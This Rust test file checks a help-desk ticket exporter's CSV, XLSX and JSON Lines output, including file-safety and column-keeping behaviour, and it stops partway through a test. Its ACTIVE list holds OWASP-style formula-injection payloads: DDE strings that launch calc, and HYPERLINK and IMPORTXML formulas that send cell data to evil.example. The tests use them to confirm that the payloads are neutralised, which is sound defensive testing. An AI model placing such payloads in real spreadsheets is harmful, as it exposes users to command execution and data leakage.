//! Files written, and read again by our own readers.

use std::collections::HashSet;
use std::fs;
use std::path::{Path, PathBuf};

use jiff::tz::TimeZone;
use proptest::prelude::*;
use rust_xlsxwriter::{DocProperties, Note, Workbook};
use serde_json::Value;

use super::*;
use crate::export::columns::Plan;
use crate::export::keep::Dresses;
use crate::outfile::fake;
use crate::record::Cell;
use crate::source::{Input, InputOptions, Row, SheetChoice};
use crate::systems::common::{Comment, CustomValue, Named};

/// What runs in a spreadsheet program that takes it for a formula, after the list of OWASP.
const ACTIVE: [&str; 12] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "=1+1\";=1+1",
    "＝1+1",
    " =IMPORTXML(\"http://evil.example\",\"//a\")",
];

pub(super) fn ticket(number: usize, text: &str) -> CommonTicket {
    let named = |what: &str| {
        Some(Named {
            id: Some(format!("{what}-{number}")),
            name: Some(text.to_owned()),
            email: Some(text.to_owned()),
        })
    };
    CommonTicket {
        number: Some(format!("{number:06}")),
        url: Some(format!(
            "https://district.incidentiq.com/agent/tickets/{number}"
        )),
        title: Some(text.to_owned()),
        description: Some(text.to_owned()),
        state: named("state"),
        priority: named("priority"),
        requester: named("requester"),
        assignee: named("assignee"),
        team: named("team"),
        place: named("place"),
        category: named("category"),
        devices: named("device").into_iter().collect(),
        tags: vec![text.to_owned()],
        custom: vec![CustomValue {
            id: None,
            name: Some("=Asset".to_owned()),
            value: Value::from(text),
        }],
        comments: vec![Comment {
            author: named("author"),
            at: "2024-06-21T22:43:05Z".parse().ok(),
            public: Some(true),
            text: text.to_owned(),
        }],
        created: "2024-06-21T22:43:05Z".parse().ok(),
        ..CommonTicket::new(SystemName::IncidentIq, format!("id-{number}"))
    }
}

fn plan() -> Plan {
    let field = crate::directory::CustomField {
        id: "c-1".to_owned(),
        name: "=Asset".to_owned(),
        kind: crate::directory::CustomType::Text,
        options: Vec::new(),
        max_length: None,
        required: false,
    };
    Plan::by_default(SystemName::IncidentIq, &[field], &TimeZone::UTC)
}

pub(super) fn options(path: &Path) -> Options {
    let format = match path.extension().and_then(|extension| extension.to_str()) {
        Some("xlsx") => Format::Xlsx,
        Some("jsonl") => Format::JsonLines,
        _ => Format::Csv,
    };
    Options {
        path: path.to_owned(),
        format,
        plan: Some(plan()),
        about: About {
            system: SystemName::IncidentIq,
            source: "sandbox".to_owned(),
            filter: "all tickets".to_owned(),
            read_at: "2024-06-22T00:00:00Z".parse().unwrap(),
        },
        comments: false,
        raw: false,
        partition: None,
        namesakes: HashSet::new(),
        drop_columns: false,
        carry_from: None,
        placing: Placing::default(),
        baseline: None,
        sheets: Vec::new(),
    }
}

fn write(options: Options, tickets: &[CommonTicket]) -> Written {
    let mut sink = create(options).unwrap();
    for ticket in tickets {
        sink.ticket(ticket).unwrap();
    }
    sink.finish().unwrap()
}

/// Every table of a file by its sheet: headings and rows of texts.
fn read(path: &Path) -> Vec<(String, Vec<Vec<String>>)> {
    let options = InputOptions {
        guarded: crate::source::Guards::Ours,
        sheet: SheetChoice::All,
        ..InputOptions::default()
    };
    let input = Input::open(&[path.to_path_buf()], &options).unwrap();
    let mut tables: Vec<(String, Vec<Vec<String>>)> = input
        .tables()
        .iter()
        .map(|table| {
            (
                table.sheet.as_deref().unwrap_or_default().to_owned(),
                vec![table.header.written().to_vec()],
            )
        })
        .collect();
    for row in input.rows().unwrap() {
        let Row::Record(record) = row.unwrap() else {
            panic!("a row is not as wide as its headings");
        };
        let texts = record
            .cells
            .iter()
            .map(|cell| cell.text().into_owned())
            .collect();
        tables[record.table].1.push(texts);
    }
    tables
}

/// The texts of a ticket in the columns of the plan, as a reader must find them.
fn expected(ticket: &CommonTicket, plan: &mut Plan) -> Vec<String> {
    let mut cells = Vec::new();
    plan.cells(ticket, &mut cells).unwrap();
    let text = |cell: &crate::export::columns::Cell<'_>| match cell {
        crate::export::columns::Cell::Empty => String::new(),
        crate::export::columns::Cell::Text(text)
        | crate::export::columns::Cell::Link { text, .. } => text.to_string(),
        crate::export::columns::Cell::Number(number) => Cell::Number(*number).text().into_owned(),
        crate::export::columns::Cell::Truth(truth) => truth.to_string(),
        crate::export::columns::Cell::Formatted(shown) => shown.text.clone(),
        crate::export::columns::Cell::Time(at) => Cell::DateTime(at.civil()).text().into_owned(),
    };
    cells.iter().map(text).collect()
}

#[test]
fn no_text_runs_and_every_cell_is_read_back() {
    let dir = tempfile::tempdir().unwrap();
    let mut texts: Vec<String> = ACTIVE.iter().map(|text| (*text).to_owned()).collect();
    texts.extend(
        [
            "0012",
            "12345678901234567890",
            "'=1",
            "''",
            "a\r\nb;c,\"d\"",
            "_x0041_",
            "\u{1}x",
            "2024-06-21",
            "TRUE",
            "1e5",
            " x ",
        ]
        .map(str::to_owned),
    );
    let tickets: Vec<CommonTicket> = texts
        .iter()
        .enumerate()
        .map(|(at, text)| ticket(at + 99_995, text))
        .collect();
    for name in ["t.csv", "t.xlsx"] {
        let path = dir.path().join(name);
        let written = write(
            Options {
                comments: true,
                ..options(&path)
            },
            &tickets,
        );
        assert_eq!(written.tickets, tickets.len() as u64);
        assert_eq!(written.notes, [""; 0]);
        let tables = read(&path);
        let mut plan = plan();
        for (ticket, row) in tickets.iter().zip(&tables[0].1[1..]) {
            assert_eq!(row, &expected(ticket, &mut plan), "{name}");
        }
        assert_eq!(tables[0].1.len(), tickets.len() + 1);
        assert!(tables[0].1[0].contains(&"=Asset".to_owned()), "{name}");
    }
    // In the file itself nothing begins with a sign of a formula.
    for name in ["t.csv", "t.comments.csv"] {
        let mut reader = ::csv::ReaderBuilder::new()
            .has_headers(false)
            .from_path(dir.path().join(name))
            .unwrap();
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                assert!(!crate::source::guard::is_active(cell), "{name}: {cell:?}");
            }
        }
    }
    // In a workbook nothing but the links is a formula.
    let file = fs::File::open(dir.path().join("t.xlsx")).unwrap();
    let mut formulas = std::collections::BTreeSet::new();
    let mut note = |spot: crate::source::Spot, _: &Cell| {
        if spot.is_formula {
            formulas.insert(spot.column);
        }
        std::ops::ControlFlow::Continue(())
    };
    crate::source::each_cell(Box::new(file), "t.xlsx", "Tickets", &mut note).unwrap();
    assert_eq!(formulas, [0].into());
    let comments = read(&dir.path().join("t.xlsx"));
    assert_eq!(comments[1].0, "Comments");
    assert_eq!(comments[1].1[1][6], ACTIVE[0]);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]

    #[test]
    fn any_text_survives_a_csv(texts in proptest::collection::vec("['=+@\t\r\n\",;-]{0,3}\\PC{0,8}[\r\n\t '\"]{0,2}", 1..6)) {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("t.csv");
        let tickets: Vec<CommonTicket> = texts.iter().enumerate().map(|(at, text)| ticket(at, text)).collect();
        write(options(&path), &tickets);
        let tables = read(&path);
        let mut plan = plan();
        for (ticket, row) in tickets.iter().zip(&tables[0].1[1..]) {
            prop_assert_eq!(row, &expected(ticket, &mut plan));
        }
    }
}

/// A workbook as an earlier export left it, with a column that people added and one that the plan has no more.
fn earlier(path: &Path, rows: &[(&str, &str)], more: impl FnOnce(&mut Workbook)) {
    let mut workbook = Workbook::new();
    let mut properties = DocProperties::new()
        .set_custom_property("Deskferry", "1")
        .set_custom_property("Deskferry sheet 1", "Tickets");
    for (number, heading) in ["Ticket", "Ticket ID", "Gone"].iter().enumerate() {
        properties = properties.set_custom_property(format!("Deskferry column {number}"), *heading);
    }
    workbook.set_properties(&properties);
    let sheet = workbook.add_worksheet().set_name("Tickets").unwrap();
    for (column, heading) in (0..).zip(["Ticket", "Remark", "Ticket ID", "Gone", "Until"]) {
        sheet.write_string(0, column, heading).unwrap();
    }
    for (row, (id, remark)) in (1..).zip(rows) {
        sheet.write_string(row, 1, *remark).unwrap();
        sheet.write_string(row, 2, *id).unwrap();
        sheet.write_string(row, 3, "stale").unwrap();
    }
    more(&mut workbook);
    workbook.save(path).unwrap();
}

fn column(table: &[Vec<String>], heading: &str) -> Vec<String> {
    let at = table[0]
        .iter()
        .position(|one| one == heading)
        .unwrap_or_else(|| panic!("{heading} of {:?}", table[0]));
    table[1..].iter().map(|row| row[at].clone()).collect()
}

#[test]
fn what_other_separators_would_part_is_in_quotes() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("t.csv");
    for text in ["x;=1+1", "x\t=1+1", ";=1+1", "x\r=1+1"] {
        write(options(&path), &[ticket(1, text)]);
        let written = fs::read_to_string(&path).unwrap();
        let text = text.replace('\r', "\n");
        let found: Vec<usize> = written.match_indices(&text).map(|(at, _)| at).collect();
        assert!(found.len() > 8, "{written}");
        for at in found {
            assert!(written[..at].ends_with(",\""), "{text:?}\n{written}");
        }
    }
}

#[test]
fn what_is_saved_while_the_file_is_written_is_not_lost() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("t.csv");
    let tickets = [ticket(1, "lamp"), ticket(2, "door")];
    write(options(&path), &tickets);
    let noted = |note: &str| {
        let written = fs::read_to_string(&path).unwrap();
        let lines = written.lines().enumerate().map(|(at, line)| match at {
            0 if line.ends_with("Remark") => format!("{line}\r\n"),
            0 => format!("{line},Remark\r\n"),
            _ => format!("{},{note}\r\n", line.trim_end_matches(",call back")),
        });
        fs::write(&path, lines.collect::<String>()).unwrap();
    };
    let remarks = || -> Vec<String> {
        let tables = read(&path);
        let at = tables[0].1[0]
            .iter()
            .position(|heading| heading == "Remark");
        let at = at.expect("their column is there");
        tables[0].1[1..].iter().map(|row| row[at].clone()).collect()
    };
    let meanwhile = |options: Options, note: &str| {
        let mut sink = create(options).unwrap();
        for ticket in &tickets {
            sink.ticket(ticket).unwrap();
        }
        noted(note);
        sink.finish()
    };
    let error = meanwhile(options(&path), "call back").unwrap_err();
    assert_eq!(error.kind(), crate::error::ErrorKind::Changed);
    assert_eq!(remarks(), ["call back"; 2], "the file is as it was saved");
    write(options(&path), &tickets);
    assert_eq!(remarks(), ["call back"; 2]);
    let mut giving_way = options(&path);
    giving_way.placing.gives_way = true;
    let written = meanwhile(giving_way, "done").unwrap();
    assert_eq!(written.files, [folder.path().join("t-2.csv")]);
    assert_eq!(remarks(), ["done"; 2]);
    // Nor is a file that came meanwhile.
    fs::remove_file(&path).unwrap();
    let mut sink = create(options(&path)).unwrap();
    sink.ticket(&tickets[0]).unwrap();
    fs::write(&path, "mine").unwrap();
    let error = sink.finish().unwrap_err();
    assert_eq!(error.kind(), crate::error::ErrorKind::Changed);
    assert_eq!(fs::read_to_string(&path).unwrap(), "mine");
}

#[test]
fn a_column_of_people_that_the_export_fills_now_goes_on_under_another_heading() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("t.xlsx");
    // Of these only the first two are ours: people wrote a `State` before the export had one.
    let mut workbook = Workbook::new();
    let mut properties = DocProperties::new()
        .set_custom_property("Deskferry", "1")
        .set_custom_property("Deskferry sheet 1", "Tickets");
    for (number, heading) in ["Ticket", "Ticket ID"].iter().enumerate() {
        properties = properties.set_custom_property(format!("Deskferry column {number}"), *heading);
    }
    workbook.set_properties(&properties);
    let sheet = workbook.add_worksheet().set_name("Tickets").unwrap();
    for (column, texts) in (0..).zip([
        ["Ticket", "000001"],
        ["Ticket ID", "id-1"],
        ["State", "call back"],
    ]) {
        for (row, text) in (0..).zip(texts) {
            sheet.write_string(row, column, text).unwrap();
        }
    }
    workbook.save(&path).unwrap();
    let written = write(options(&path), &[ticket(1, "lamp")]);
    assert_eq!(written.files, std::slice::from_ref(&path));
    assert!(
        written
            .notes
            .iter()
            .any(|note| note.contains("`State (kept)`")),
        "{:?}",
        written.notes
    );
    for _ in 0..2 {
        let tables = read(&path);
        assert_eq!(column(&tables[0].1, "State"), ["lamp"]);
        assert_eq!(column(&tables[0].1, "State (kept)"), ["call back"]);
        // The next time it is a column of theirs like any other.
        let written = write(options(&path), &[ticket(1, "lamp")]);
        assert!(written.notes.is_empty(), "{:?}", written.notes);
    }
}

#[test]
fn a_file_that_is_read_only_stays() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("t.csv");
    write(options(&path), &[ticket(1, "lamp")]);
    let before = fs::read(&path).unwrap();
    let mut rights = fs::metadata(&path).unwrap().permissions();
    rights.set_readonly(true);
    fs::set_permissions(&path, rights).unwrap();
    let written = write(options(&path), &[ticket(2, "door")]);
    assert_eq!(written.files, [folder.path().join("t-2.csv")]);
    assert!(
        written.notes[0].contains("it is read-only"),
        "{:?}",
        written.notes
    );
    assert_eq!(fs::read(&path).unwrap(), before);
}

/// On Windows there may be no mark beside a file that a program has open.
#[test]
fn a_file_that_is_open_without_a_mark_stays_whosever_it_is() {
    for is_strange in [true, false] {
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("t.csv");
        match is_strange {
            true => fs::write(&path, "Wages,May\nAda,1\n").unwrap(),
            false => drop(write(options(&path), &[ticket(1, "lamp")])),
        }
        let before = fs::read(&path).unwrap();
        let _open = fake::open(&path);
        let written = write(options(&path), &[ticket(2, "door")]);
        assert_eq!(written.files, [folder.path().join("t-2.csv")]);
        assert!(
            (written.notes.iter()).any(|note| note.contains("cannot be replaced")),
            "{:?}",
            written.notes
        );
        assert_eq!(fs::read(&path).unwrap(), before);
    }
}

#[cfg(unix)]
#[test]
fn a_link_is_followed() {
    let folder = tempfile::tempdir().unwrap();
    fs::create_dir(folder.path().join("shared")).unwrap();
    let (link, file) = (
        folder.path().join("t.csv"),
        folder.path().join("shared/all.csv"),
    );
    std::os::unix::fs::symlink("shared/all.csv", &link).unwrap();
    for number in [1, 2] {
        write(options(&link), &[ticket(number, "lamp")]);
        assert!(fs::symlink_metadata(&link).unwrap().is_symlink());
        assert!(
            fs::read_to_string(&file)
                .unwrap()
                .contains(&format!("id-{number}"))
        );
    }
    assert!(folder.path().join("shared/all.csv.bak").exists());
}

#[test]
fn what_people_wrote_stays_beside_its_ticket() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("t.xlsx");
    earlier(
        &path,
        &[
            ("id-2", "call back"),
            ("id-1", ""),
            ("id-9", "=left"),
            ("", "no ticket"),
        ],
        |_| {},
    );
    let before = fs::read(&path).unwrap();
    let tickets: Vec<CommonTicket> = (1..4).map(|number| ticket(number, "x")).collect();
    let written = write(options(&path), &tickets);
    assert_eq!(written.files, std::slice::from_ref(&path));
    assert!(
        written.notes[0].starts_with("2 earlier rows"),
        "{:?}",
        written.notes
    );
    assert_eq!(fs::read(dir.path().join("t.xlsx.bak")).unwrap(), before);
    let tables = read(&path);
    assert_eq!(column(&tables[0].1, "Remark"), ["", "call back", ""]);
    assert!(
        tables[0].1[0].contains(&"Until".to_owned())
            && !tables[0].1[0].contains(&"Gone".to_owned())
    );
    assert_eq!(tables[1].0, "Earlier");
    assert_eq!(column(&tables[1].1, "Remark"), ["=left", "no ticket"]);

    // A ticket that comes back takes its text with it, and what was carried once is carried on.
    let tickets: Vec<CommonTicket> = [2, 9].map(|number| ticket(number, "y")).into();
    write(options(&path), &tickets);
    let tables = read(&path);
    assert_eq!(column(&tables[0].1, "Remark"), ["call back", "=left"]);
    assert_eq!(column(&tables[1].1, "Remark"), ["no ticket"]);

    // Into another file, and not at all.
    let other = dir.path().join("u.csv");
    write(
        Options {
            carry_from: Some(path.clone()),
            ..options(&other)
        },
        &tickets,
    );
    assert_eq!(column(&read(&other)[0].1, "Remark"), ["call back", "=left"]);
    assert_eq!(
        column(&read(&dir.path().join("u.earlier.csv"))[0].1, "Remark"),
        ["no ticket"]
    );
    write(options(&other), &tickets[..1]);
    assert_eq!(
        column(&read(&dir.path().join("u.earlier.csv"))[0].1, "Remark"),
        ["=left", "no ticket"]
    );
    write(
        Options {
            drop_columns: true,
            ..options(&path)
        },
        &tickets,
    );
    assert_eq!(read(&path)[0].1[0].len(), plan().columns().len());
}

#[test]
fn a_workbook_with_more_than_rows_is_not_replaced() {
    let dir = tempfile::tempdir().unwrap();
    let tickets = [ticket(1, "x")];
    type More = fn(&mut Workbook);
    let cases: [(&str, More); 3] = [
        ("sheet `Mine`", |book| {
            book.add_worksheet().set_name("Mine").unwrap();
        }),
        ("notes", |book| {
            let sheet = book.worksheet_from_index(0).unwrap();
            sheet.insert_note(1, 1, &Note::new("look")).unwrap();
        }),
        ("formulas", |book| {
            let sheet = book.worksheet_from_index(0).unwrap();
            sheet.write_formula(1, 4, "=1+1").unwrap();
        }),
    ];
    for (number, (what, more)) in cases.into_iter().enumerate() {
        let path = dir.path().join(format!("t{number}.xlsx"));
        earlier(&path, &[("id-1", "r")], more);
        let before = fs::read(&path).unwrap();
        let written = write(options(&path), &tickets);
        assert_eq!(
            written.files,
            [dir.path().join(format!("t{number}-2.xlsx"))]
        );
        assert!(written.notes[0].contains(what), "{:?}", written.notes);
        assert_eq!(fs::read(&path).unwrap(), before);
    }
    // Neither is one that is open.
    let path = dir.path().join("open.csv");
    fs::write(&path, "Ticket ID\nid-1\n").unwrap();
    fs::write(dir.path().join("~$open.csv"), "").unwrap();
    let written = write(options(&path), &tickets);
    assert_ne!(written.files[0], path);
    assert_eq!(written.notes.len(), 1, "{:?}", written.notes);
    assert_eq!(fs::read_to_string(&path).unwrap(), "Ticket ID\nid-1\n");
    let left: Vec<PathBuf> = fs::read_dir(dir.path())
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .collect();
    assert!(
        !left
            .iter()
            .any(|path| path.display().to_string().contains(".deskferry-")),
        "{left:?}"
    );
}

#[test]
fn an_export_is_parted_into_files_and_sheets() {
    let dir = tempfile::tempdir().unwrap();
    // More parts than files may be open, each met more than once.
    let tickets: Vec<CommonTicket> = (0..200)
        .map(|number| ticket(number, &format!("Room/{}", number % 80)))
        .collect();
    let path = dir.path().join("t.csv");
    let written = write(
        Options {
            partition: Some(Partition::Location),
            ..options(&path)
        },
        &tickets,
    );
    assert_eq!((written.files.len(), written.tickets), (80, 200));
    let one = read(&dir.path().join("t.Room-7.csv"));
    assert_eq!(column(&one[0].1, "Ticket"), ["000007", "000087", "000167"]);
    let path = dir.path().join("t.xlsx");
    write(
        Options {
            partition: Some(Partition::Location),
            ..options(&path)
        },
        &tickets,
    );
    let tables = read(&path);
    assert_eq!((tables.len(), tables[7].0.as_str()), (80, "Room-7"));
    assert_eq!(
        column(&tables[7].1, "Ticket"),
        ["000007", "000087", "000167"]
    );
}

/// Two people of one name have two parts, whoever has the first ticket.
#[test]
fn people_of_one_name_have_a_part_each() {
    let of = |number: usize, id: &str, name: &str, email: Option<&str>| CommonTicket {
        assignee: Some(Named {
            id: Some(id.to_owned()),
            name: Some(name.to_owned()),
            email: email.map(str::to_owned),
        }),
        ..ticket(number, "lamp")
    };
    let tickets = [
        of(1, "u1", "Maria Garcia", Some("maria@x.example")),
        of(2, "u2", "Maria Garcia", Some("garcia@x.example")),
        of(3, "u3", "Bo", None),
        of(4, "U1", "Maria Garcia", Some("maria@x.example")),
        // Nobody knew of this one before.
        of(5, "u4", "bo", None),
    ];
    let names = |format: &str, namesakes: &[&str]| -> Vec<String> {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join(format);
        let written = write(
            Options {
                partition: Some(Partition::Assignee),
                namesakes: namesakes.iter().map(|&name| name.to_owned()).collect(),
                ..options(&path)
            },
            &tickets,
        );
        match format {
            "t.xlsx" => written.sheets,
            _ => {
                let names = written.files.iter().map(|file| file.file_name().unwrap());
                names.map(|name| name.display().to_string()).collect()
            }
        }
    };
    assert_eq!(
        names("t.csv", &["maria garcia"]),
        [
            "t.Maria Garcia (maria@x.example).csv",
            "t.Maria Garcia (garcia@x.example).csv",
            "t.Bo.csv",
            "t.bo (u4).csv",
        ]
    );
    assert_eq!(
        names("t.xlsx", &[]),
        [
            "Maria Garcia",
            "Maria Garcia (garcia@x.example)",
            "Bo",
            "bo (u4)"
        ]
    );
}

#[test]
fn a_sheet_that_is_full_is_followed_by_another() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("t.xlsx");
    let mut plan = plan();
    let target = Placing::default().plain(path.clone());
    let mut book = xlsx::Book::new(target, &plan);
    book.most_rows = 3;
    let headings: Vec<String> = plan
        .columns()
        .iter()
        .map(|column| column.heading.clone())
        .collect();
    let long = "😀".repeat(20_000);
    for number in 0..7 {
        let ticket = ticket(number, if number == 6 { &long } else { "short" });
        let mut cells = Vec::new();
        plan.cells(&ticket, &mut cells).unwrap();
        book.row(&xlsx::Line {
            rows: xlsx::Rows::Tickets,
            part: "",
            sheet: "Tickets",
            headings: &headings,
            cells: &cells,
            dresses: &Dresses::new(),
            dressed_headings: &Dresses::new(),
        })
        .unwrap();
    }
    let whole = book
        .finish(
            &plan,
            &options(&path).about,
            (&headings, &Dresses::new()),
            &[],
        )
        .unwrap();
    let placed = whole.target.place(whole.file, &mut Vec::new()).unwrap();
    let said = whole.texts.add(&placed).unwrap().unwrap();
    assert!(said.contains(" texts are longer than a cell"), "{said}");
    // Who reads the workbook gets the whole texts.
    let mut last = String::new();
    let all = InputOptions {
        sheet: SheetChoice::All,
        ..InputOptions::default()
    };
    let input = Input::open(std::slice::from_ref(&path), &all);
    for row in input.unwrap().rows().unwrap() {
        let Row::Record(record) = row.unwrap() else {
            panic!("a row that cannot be read");
        };
        last = record.cells[1].text().into_owned();
    }
    assert_eq!(last, long);
    let tables = read(&path);
    let names: Vec<(&str, usize)> = tables
        .iter()
        .map(|(name, rows)| (name.as_str(), rows.len()))
        .collect();
    assert_eq!(names, [("Tickets", 4), ("Tickets 2", 4), ("Tickets 3", 2)]);
    // The cell itself is cut and says where the rest is.
    let mut book: calamine::Xlsx<_> = calamine::open_workbook(&path).unwrap();
    let sheet = calamine::Reader::worksheet_range(&mut book, "Tickets 3").unwrap();
    let cell = sheet.get_value((1, 1)).unwrap().to_string();
    assert!(
        cell.encode_utf16().count() <= 32_767
            && cell.ends_with(", in the folder beside this file]")
    );
}

#[test]
fn json_lines_are_whole_tickets_or_objects_by_heading() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("t.jsonl");
    let tickets = [ticket(1, "=x")];
    write(
        Options {
            plan: None,
            ..options(&path)
        },
        &tickets,
    );
    let line: CommonTicket = serde_json::from_str(&fs::read_to_string(&path).unwrap()).unwrap();
    assert_eq!(line, tickets[0]);
    write(
        Options {
            comments: true,
            ..options(&path)
        },
        &tickets,
    );
    let object: Value = serde_json::from_str(&fs::read_to_string(&path).unwrap()).unwrap();
    assert_eq!(object["Title"], "=x");
    assert_eq!(object["Created"], "2024-06-21 22:43:05");
    assert_eq!(object["comments"][0]["text"], "=x");
}

/// The files in a folder whose names begin so, with what is in them.
fn beginning(folder: &Path, start: &str) -> Vec<(String, String)> {
    let mut files: Vec<(String, String)> = fs::read_dir(folder)
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .map(|path| {
            let name = path.file_name().unwrap().to_string_lossy().into_owned();
            (
                name,
                String::from_utf8_lossy(&fs::read(&path).unwrap()).into_owned(),
            )
        })
        .filter(|(name, _)| name.starts_with(start))
        .collect();
    files.sort();
    files
}

#[test]
fn a_file_that_is_none_of_ours_steps_aside() {
    let dir = tempfile::tempdir().unwrap();
    let tickets = [ticket(1, "x")];
    let day = jiff::Zoned::now().strftime("%Y-%m-%d").to_string();
    for (name, format) in [
        ("t.csv", Format::Csv),
        ("t.xlsx", Format::Xlsx),
        ("t.jsonl", Format::JsonLines),
        ("t.html", Format::Html),
    ] {
        let path = dir.path().join(name);
        fs::write(&path, "Wages,May\nAda,1\n").unwrap();
        let export = |records: &Records| {
            let placing = Placing {
                records: records.clone(),
                ..Placing::default()
            };
            write(
                Options {
                    placing,
                    format,
                    ..options(&path)
                },
                &tickets,
            )
        };
        let state = tempfile::tempdir().unwrap();
        let records = Records::of(state.path());
        let written = export(&records);
        assert_eq!(written.files, std::slice::from_ref(&path));
        assert!(
            written.notes[0].contains("is no export of deskferry"),
            "{:?}",
            written.notes
        );
        let (stem, extension) = name.split_once('.').unwrap();
        let aside = dir.path().join(format!("{stem}.{day}.{extension}"));
        assert_eq!(fs::read_to_string(aside).unwrap(), "Wages,May\nAda,1\n");
        // What was written is known again, by what is in it or by what is remembered.
        let written = export(&records);
        assert_eq!(
            (written.files.len(), written.notes.len()),
            (1, 0),
            "{:?}",
            written.notes
        );
        assert_eq!(
            beginning(dir.path(), &format!("{stem}.{day}")).len(),
            ["t.csv", "t.xlsx", "t.jsonl", "t.html"]
                .iter()
                .position(|one| *one == name)
                .unwrap()
                + 1
        );
        if format != Format::JsonLines {
            let written = export(&Records::default());
            assert!(written.notes.is_empty(), "{:?}", written.notes);
        }
    }
}

#[test]
fn a_mapping_that_somebody_edited_steps_aside() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("back.toml");
    let records = Records::of(dir.path());
    for text in ["first", "second"] {
        assert_eq!(write_text(&path, text, &records).unwrap(), None);
    }
    assert_eq!(beginning(dir.path(), "back").len(), 1);
    fs::write(&path, "mine").unwrap();
    assert!(write_text(&path, "third", &records).unwrap().is_some());
    let texts: Vec<String> = beginning(dir.path(), "back")
        .into_iter()
        .map(|(_, text)| text)
        .collect();
    assert_eq!(texts, ["mine", "third"]);
}

#[test]
fn what_a_csv_cannot_carry_keeps_it_from_being_replaced() {
    let tickets = [ticket(1, "lamp"), ticket(2, "door")];
    for (what, edit) in [("has cells", ",mine" as &str), ("quote", ",\"mi\"ne")] {
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("t.csv");
        write(options(&path), &tickets);
        let text = fs::read_to_string(&path).unwrap();
        let edited = format!("{}{edit}\r\n", text.trim_end());
        fs::write(&path, &edited).unwrap();
        let written = write(options(&path), &tickets);
        assert_eq!(
            written.files[0],
            folder.path().join("t-2.csv"),
            "{what}: {:?}",
            written.notes
        );
        assert_eq!(fs::read_to_string(&path).unwrap(), edited);
    }
    // A column of theirs with nothing but a heading, in a table without rows too; a row without a ticket.
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("t.csv");
    write(options(&path), &[]);
    let text = fs::read_to_string(&path).unwrap();
    fs::write(&path, format!("{},Until\r\n", text.trim_end())).unwrap();
    write(options(&path), &tickets);
    let text = fs::read_to_string(&path).unwrap();
    assert!(text.lines().next().unwrap().ends_with(",Until"), "{text}");
    fs::write(&path, format!("{text},Call Ann\r\n")).unwrap();
    let written = write(options(&path), &tickets);
    assert_eq!(written.files[0], path, "{:?}", written.notes);
    assert!(
        fs::read_to_string(folder.path().join("t.earlier.csv"))
            .unwrap()
            .contains("Call Ann")
    );
    // A second column of one of our headings may be theirs.
    let text = fs::read_to_string(&path).unwrap();
    let doubled: String = text
        .lines()
        .map(|line| match line.strip_suffix(",Until") {
            Some(_) => format!("{line},State\r\n"),
            None => format!("{line},mine\r\n"),
        })
        .collect();
    fs::write(&path, &doubled).unwrap();
    let written = write(options(&path), &tickets);
    assert_ne!(written.files[0], path);
    assert!(
        written
            .notes
            .iter()
            .any(|note| note.contains("more than one column `State`")),
        "{:?}",
        written.notes
    );
}

#[test]
fn what_people_wrote_into_a_csv_of_comments_stays() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("t.csv");
    let with_comments = || Options {
        comments: true,
        ..options(&path)
    };
    let tickets = [ticket(1, "lamp")];
    write(with_comments(), &tickets);
    write(with_comments(), &tickets);
    let comments = folder.path().join("t.comments.csv");
    let text = fs::read_to_string(&comments).unwrap();
    assert!(!folder.path().join("t.comments-2.csv").exists());
    let edited: String = text
        .lines()
        .enumerate()
        .map(|(at, line)| match at {
            0 => format!("{line},Answered\r\n"),
            _ => format!("{line},yes\r\n"),
        })
        .collect();
    fs::write(&comments, &edited).unwrap();
    let written = write(with_comments(), &tickets);
    assert_eq!(fs::read_to_string(&comments).unwrap(), edited);
    assert!(
        written
            .files
            .contains(&folder.path().join("t.comments-2.csv")),
        "{written:?}"
    );
}

#[test]
fn notes_follow_a_ticket_to_its_part_and_an_empty_part_is_emptied() {
    notes_follow_a_ticket(false);
    notes_follow_a_ticket(true);
}

/// `is_open`: whether a program has the file open that is to go in the end.
fn notes_follow_a_ticket(is_open: bool) {
    let folder = tempfile::tempdir().unwrap();
    let state = tempfile::tempdir().unwrap();
    let path = folder.path().join("t.csv");
    let parted = || Options {
        partition: Some(Partition::Location),
        placing: Placing {
            records: Records::of(state.path()),
            ..Placing::default()
        },
        ..options(&path)
    };
    let at = |number: usize, place: &str| {
        let mut ticket = ticket(number, "lamp");
        ticket.place.as_mut().unwrap().name = Some(place.to_owned());
        ticket
    };
    // A copy that people made of a part, and another export, are none of it.
    let bystander = folder.path().join("t.copy.csv");
    write(parted(), &[at(1, "A"), at(2, "A"), at(3, "B")]);
    let part = |name: &str| folder.path().join(format!("t.{name}.csv"));
    fs::copy(part("A"), &bystander).unwrap();
    let noted: String = fs::read_to_string(part("A"))
        .unwrap()
        .lines()
        .enumerate()
        .map(|(row, line)| match row {
            0 => format!("{line},Remark\r\n"),
            row => format!("{line},call {row}\r\n"),
        })
        .collect();
    fs::write(part("A"), noted).unwrap();
    let copied = fs::read(&bystander).unwrap();
    // One has moved, the other has left the selection.
    let written = write(parted(), &[at(1, "B"), at(3, "B")]);
    let tables = read(&part("B"));
    assert_eq!(column(&tables[0].1, "Remark"), ["call 1", ""]);
    let text = fs::read_to_string(part("A")).unwrap();
    assert_eq!(text.lines().count(), 1, "{text}");
    assert!(
        fs::read_to_string(part("A.earlier"))
            .unwrap()
            .contains("call 2")
    );
    assert!(
        written
            .notes
            .iter()
            .any(|note| note.contains("no ticket belongs into")),
        "{:?}",
        written.notes
    );
